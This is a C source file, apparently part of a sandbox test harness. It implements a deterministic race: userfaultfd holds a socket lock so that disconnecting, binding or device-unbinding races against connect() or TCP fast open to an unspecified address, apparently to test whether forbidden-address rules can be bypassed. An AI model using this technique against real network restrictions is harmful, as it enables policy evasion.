// SPDX-License-Identifier: Apache-2.0
/*
 * Races for what an unspecified address becomes. connect() and fast open take it from the socket at
 * that moment, so another thread changes the socket between the check and then: by letting go of a
 * connection, by binding it, or by unbinding it from its device.
 *
 * No luck is needed: whoever changes the socket and whoever connects wait for its lock, in this order,
 * while a third thread has it and reads an option from memory that is not there yet (userfaultfd).
 */
#include "attack.h"
#include "net.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PAGE = 4096, PATIENCE_MS = 500 };

struct race {
	struct target any;	 /* the unspecified address, with the port of the listener */
	struct target own;	 /* an address of this machine that is not forbidden */
	struct target elsewhere; /* … with a port where a connection is under way for long */
	const char *device;
	const struct way *way;
	int fd, faults;
	volatile pid_t thread; /* the one that was started last */
	char *page;
};

struct way {
	const char *name;
	void (*prepare)(struct race *race);
	void (*meddle)(struct race *race);
	bool fast_open;
};

/* A connection that does not come about gives the socket an address, which is not locked to it. */
static void begin_elsewhere(struct race *race)
{
	connect(race->fd, sockaddr_of(&race->elsewhere), race->elsewhere.size);
}

static void let_go(struct race *race)
{
	struct sockaddr nowhere = { .sa_family = AF_UNSPEC };

	connect(race->fd, &nowhere, sizeof(nowhere));
}

static void bind_device(struct race *race)
{
	must(setsockopt(race->fd, SOL_SOCKET, SO_BINDTODEVICE, race->device,
			(socklen_t)strlen(race->device) + 1),
	     "SO_BINDTODEVICE");
}

static void unbind_device(struct race *race)
{
	setsockopt(race->fd, SOL_SOCKET, SO_BINDTODEVICE, "", 1);
}

static void bind_own(struct race *race)
{
	bind(race->fd, sockaddr_of(&race->own), race->own.size);
}

static void nothing(struct race *race)
{
	(void)race;
}

static const struct way ways[] = {
	{ "let-go", begin_elsewhere, let_go, false },
	{ "let-go-fastopen", begin_elsewhere, let_go, true },
	{ "device", bind_device, unbind_device, false },
	{ "device-fastopen", bind_device, unbind_device, true },
	{ "bind", nothing, bind_own, false },
	{ "bind-fastopen", nothing, bind_own, true },
	{ NULL, NULL, NULL, false },
};

static void *hold_lock(void *argument)
{
	struct race *race = argument;

	setsockopt(race->fd, IPPROTO_IP, IP_OPTIONS, race->page, 4);
	return NULL;
}

static void *meddle(void *argument)
{
	struct race *race = argument;

	race->thread = gettid();
	race->way->meddle(race);
	return NULL;
}

static void *connect_any(void *argument)
{
	struct race *race = argument;
	struct target *any = &race->any;

	race->thread = gettid();
	if (race->way->fast_open)
		sendto(race->fd, any->text, strlen(any->text), MSG_FASTOPEN | MSG_NOSIGNAL,
		       sockaddr_of(any), any->size);
	else
		connect(race->fd, sockaddr_of(any), any->size);
	return NULL;
}

/* Starts a thread and waits until it waits for the lock (state D), or has ended without. */
static pthread_t start(struct race *race, void *(*run)(void *))
{
	char path[64], state[128];
	pthread_t thread;

	race->thread = 0;
	pthread_create(&thread, NULL, run, race);
	for (int i = 0; i < PATIENCE_MS; i++) {
		ssize_t size = 0;
		int file;

		usleep(1000);
		if (!race->thread)
			continue;
		snprintf(path, sizeof(path), "/proc/self/task/%d/stat", race->thread);
		file = open(path, O_RDONLY);
		if (file >= 0)
			size = read(file, state, sizeof(state) - 1);
		close(file);
		state[size > 0 ? size : 0] = 0;
		if (size <= 0 || strstr(state, ") D "))
			break;
	}
	return thread;
}

/* The memory is there: an option that the kernel refuses, so nothing comes of it. */
static void let_lock_go(struct race *race)
{
	static const unsigned char bad[PAGE] __attribute__((aligned(PAGE))) = { 0x83, 0xff };
	struct uffdio_copy copy = { .dst = (uintptr_t)race->page,
				    .src = (uintptr_t)bad,
				    .len = PAGE };

	must(ioctl(race->faults, UFFDIO_COPY, &copy), "UFFDIO_COPY");
}

/* One try; the process may be killed in it. */
static void try_once(struct race *race)
{
	struct pollfd fault = { .fd = race->faults, .events = POLLIN };
	pthread_t threads[3];
	struct uffd_msg message;

	madvise(race->page, PAGE, MADV_DONTNEED);
	race->fd = socket(race->any.address.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
	race->way->prepare(race);
	pthread_create(&threads[0], NULL, hold_lock, race);
	poll(&fault, 1, 5000);
	must(read(race->faults, &message, sizeof(message)), "wait for the lock to be held");
	threads[1] = start(race, meddle);
	threads[2] = start(race, connect_any);
	let_lock_go(race);
	for (int i = 0; i < 3; i++)
		pthread_join(threads[i], NULL);
	usleep(2000);
	close(race->fd);
}

static void watch_page(struct race *race)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register all = { .mode = UFFDIO_REGISTER_MODE_MISSING };

	race->faults = (int)must(syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK), "userfaultfd");
	must(ioctl(race->faults, UFFDIO_API, &api), "UFFDIO_API");
	race->page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	all.range.start = (uintptr_t)race->page;
	all.range.len = PAGE;
	must(ioctl(race->faults, UFFDIO_REGISTER, &all), "UFFDIO_REGISTER");
}

static _Noreturn void run_tries(struct race *race, volatile int *left)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	watch_page(race);
	while (*left > 0) {
		--*left;
		try_once(race);
	}
	_exit(EXIT_DONE);
}

static const struct way *find_way(const char *name)
{
	for (const struct way *way = ways; way->name; way++)
		if (!strcmp(way->name, name))
			return way;
	fprintf(stderr, "attack: no race \"%s\"\n", name);
	exit(EXIT_USAGE);
}

/*
 * A new process takes over when one is killed, until all tries are made. How many processes it took
 * is printed: where nothing is forbidden, one.
 */
static int race_command(int argc, char **argv)
{
	struct race race = { .way = find_way(argv[1]),
			     .any = parse_address(argv[3], argv[4]),
			     .own = parse_address(argv[5], "0"),
			     .elsewhere = parse_address(argv[6], argv[4]),
			     .device = argv[7] };
	volatile int *left =
		mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int processes = 0, status;

	(void)argc;
	race.any.text = argv[8];
	*left = atoi(argv[2]);
	while (*left > 0) {
		pid_t child = fork();

		if (!child)
			run_tries(&race, left);
		waitpid(child, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status))
			return WEXITSTATUS(status);
		processes++;
	}
	printf("%d\n", processes);
	return EXIT_DONE;
}

const struct command connect_race_commands[] = {
	{ "connect-race", "WAY TRIES ANY-ADDRESS PORT OWN-ADDRESS OTHER-ADDRESS DEVICE TEXT",
	  race_command, 8 },
	{ NULL, NULL, NULL, 0 },
};
